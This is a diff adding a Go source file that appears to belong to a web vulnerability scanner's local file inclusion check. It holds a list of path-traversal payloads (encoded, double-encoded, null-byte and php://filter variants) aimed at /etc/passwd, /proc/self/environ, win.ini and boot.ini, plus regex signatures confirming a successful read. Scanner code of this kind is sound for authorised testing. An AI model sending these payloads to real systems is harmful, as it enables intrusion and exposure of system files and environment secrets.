@@ -0,0 +1,88 @@
+package lfi
+
+import "regexp"
+
+type payload struct {
+	Value  string
+	Target string // file family the payload reads, used to pick signatures
+}
+
+const (
+	targetUnix    = "unix"
+	targetWindows = "windows"
+	targetPHP     = "php"
+)
+
+var lfiPayloads = []payload{
+	// Linux traversal
+	{"/etc/passwd", targetUnix},
+	{"../../../etc/passwd", targetUnix},
+	{"../../../../../../etc/passwd", targetUnix},
+	{"../../../../../../../../../../etc/passwd", targetUnix},
+	{"....//....//....//....//....//etc/passwd", targetUnix},
+	{"..././..././..././..././etc/passwd", targetUnix},
+	{"/var/www/../../etc/passwd", targetUnix},
+	{"../../../../../../proc/self/environ", targetUnix},
+
+	// Encoding variants (sent as-is, so the server sees them after one decode)
+	{"..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", targetUnix},
+	{"..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd", targetUnix},
+	{"%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", targetUnix},
+	{"..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd", targetUnix},
+	{"%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", targetUnix},
+
+	// Null byte to cut off an appended extension
+	{"../../../../../../etc/passwd%00", targetUnix},
+	{"../../../../../../etc/passwd%00.html", targetUnix},
+	{"../../../../../../etc/passwd\x00.php", targetUnix},
+
+	// Windows traversal
+	{"C:\\Windows\\win.ini", targetWindows},
+	{"..\\..\\..\\..\\..\\..\\windows\\win.ini", targetWindows},
+	{"../../../../../../windows/win.ini", targetWindows},
+	{"..%5c..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini", targetWindows},
+	{"../../../../../../boot.ini", targetWindows},
+	{"..\\..\\..\\..\\..\\..\\boot.ini", targetWindows},
+	{"../../../../../../windows/win.ini%00", targetWindows},
+
+	// PHP wrappers
+	{"php://filter/convert.base64-encode/resource=index.php", targetPHP},
+	{"php://filter/convert.base64-encode/resource=../index.php", targetPHP},
+	{"php://filter/read=convert.base64-encode/resource=/etc/passwd", targetUnix},
+	{"php://filter/resource=/etc/passwd", targetUnix},
+	{"file:///etc/passwd", targetUnix},
+	{"file:///c:/windows/win.ini", targetWindows},
+}
+
+type signature struct {
+	Name    string
+	Pattern *regexp.Regexp
+}
+
+// signatures confirm a file was actually read, keyed by payload target
+var signatures = map[string][]signature{
+	targetUnix: {
+		{"/etc/passwd root entry", regexp.MustCompile(`root:[x*!]?:0:0:`)},
+		{"/etc/passwd daemon entry", regexp.MustCompile(`daemon:[x*!]?:1:1:`)},
+		{"/etc/passwd (base64)", regexp.MustCompile(`cm9vdDp4OjA6MDo`)},
+		{"/proc/self/environ", regexp.MustCompile(`(?:^|\x00)(?:PATH|HOME|HOSTNAME)=[^\x00]+\x00`)},
+	},
+	targetWindows: {
+		{"win.ini", regexp.MustCompile(`(?i)\[(?:fonts|extensions|mci extensions|files)\]`)},
+		{"boot.ini", regexp.MustCompile(`(?i)\[boot loader\]`)},
+		{"boot.ini operating systems", regexp.MustCompile(`(?i)\[operating systems\]`)},
+	},
+	targetPHP: {
+		{"php source (base64)", regexp.MustCompile(`PD9waHA`)},
+		{"php source", regexp.MustCompile(`<\?php`)},
+	},
+}
+
+func matchSignature(target, body string) (name, match string) {
+	for _, sig := range signatures[target] {
+		if m := sig.Pattern.FindString(body); m != "" {
+			return sig.Name, m
+		}
+	}
+	return "", ""
+}